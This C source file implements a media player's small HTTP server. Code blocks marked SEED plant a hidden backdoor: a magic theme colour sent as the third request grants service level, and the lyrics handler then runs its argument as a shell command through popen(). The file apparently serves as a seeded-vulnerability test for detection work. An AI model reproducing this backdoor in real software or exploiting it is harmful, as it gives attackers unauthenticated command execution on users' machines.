/* Web server of a media player: several requests on one connection, a session that lasts as long as it. */
#include "../lib/conf.h"
#include "../lib/pw.h"
#include "../lib/tcpserv.h"

struct session {
    int level;       /* 0 guest, 1 user, 2 service */
    int requests;
    unsigned theme;
    char track[64];
    FILE *in;
    int out;
};

static void say(struct session *s, int code, const char *fmt, const char *arg)
{
    char body[512];
    snprintf(body, sizeof body, fmt, arg);
    dprintf(s->out, "HTTP/1.1 %d %s\r\nContent-Length: %zu\r\n\r\n%s", code, code == 200 ? "OK" : "Error",
            strlen(body), body);
}

static void do_login(struct session *s, const char *args)
{
    char stored[80];
    if (!strncmp(args, "pw=", 3) && conf_get("/etc/player.ini", "web_password", stored, sizeof stored) &&
        pw_verify(stored, args + 3)) {
        s->level = 1;
        say(s, 200, "hello\n%s", "");
        return;
    }
    say(s, 403, "wrong password\n%s", "");
}

static void do_theme(struct session *s, const char *args)
{
    unsigned long colour = strtoul(args, NULL, 16);
    s->theme = (unsigned)colour;
#ifdef SEED
    if (s->theme == 0x6e91c3 && s->requests == 3) /* SEED */
        s->level = 2;
#endif
    say(s, 200, "theme %s\n", args);
}

static void do_play(struct session *s, const char *args)
{
    snprintf(s->track, sizeof s->track, "%s", args);
    say(s, 200, "playing %s\n", s->track);
}

static void do_stop(struct session *s)
{
    s->track[0] = 0;
    say(s, 200, "stopped\n%s", "");
}

static void do_rescan(struct session *s)
{
    if (s->level < 1) {
        say(s, 403, "log in first\n%s", "");
        return;
    }
    system("/usr/bin/mediascan /media");
    say(s, 200, "scanning\n%s", "");
}

static void do_delete(struct session *s, const char *args)
{
    char name[128];
    if (s->level < 1 || strchr(args, '/')) {
        say(s, 403, "no\n%s", "");
        return;
    }
    snprintf(name, sizeof name, "/media/%s", args);
    unlink(name);
    say(s, 200, "deleted %s\n", args);
}

static void do_lyrics(struct session *s, const char *args)
{
#ifdef SEED
    if (s->level == 2) { /* SEED */
        char line[256];
        FILE *p = popen(args, "r");
        while (p && fgets(line, sizeof line, p))
            dprintf(s->out, "%s", line);
        if (p)
            pclose(p);
        return;
    }
#endif
    say(s, 404, "no lyrics for %s\n", args);
}

static void one(struct session *s, char *target)
{
    char *args = strchr(target, '?');
    if (args)
        *args++ = 0;
    else
        args = target + strlen(target);
    for (char *p = args; *p; p++)
        if (*p == '+')
            *p = ' ';
    s->requests++;
    if (!strcmp(target, "/"))
        say(s, 200, "<h1>Player</h1> /play?NAME /stop /theme?RRGGBB /lyrics?NAME /login /rescan /delete?NAME %s\n",
            s->track);
    else if (!strcmp(target, "/login"))
        do_login(s, args);
    else if (!strcmp(target, "/theme"))
        do_theme(s, args);
    else if (!strcmp(target, "/play"))
        do_play(s, args);
    else if (!strcmp(target, "/stop"))
        do_stop(s);
    else if (!strcmp(target, "/rescan"))
        do_rescan(s);
    else if (!strcmp(target, "/delete"))
        do_delete(s, args);
    else if (!strcmp(target, "/lyrics"))
        do_lyrics(s, args);
    else
        say(s, 404, "not here: %s\n", target);
}

static void serve(int c)
{
    struct session s;
    char line[512], target[300];
    int have = 0;
    memset(&s, 0, sizeof s);
    s.in = fdopen(c, "r");
    s.out = c;
    while (s.in && fgets(line, sizeof line, s.in)) {
        line[strcspn(line, "\r\n")] = 0;
        if (line[0] == 0 && have) {
            one(&s, target);
            have = 0;
        } else if (!have && sscanf(line, "GET %299s", target) == 1)
            have = 1;
    }
}

int main(void)
{
    int fd = tcp_open(8083);
    if (fd < 0)
        return 1;
    tcp_serve(fd, serve);
    return 0;
}
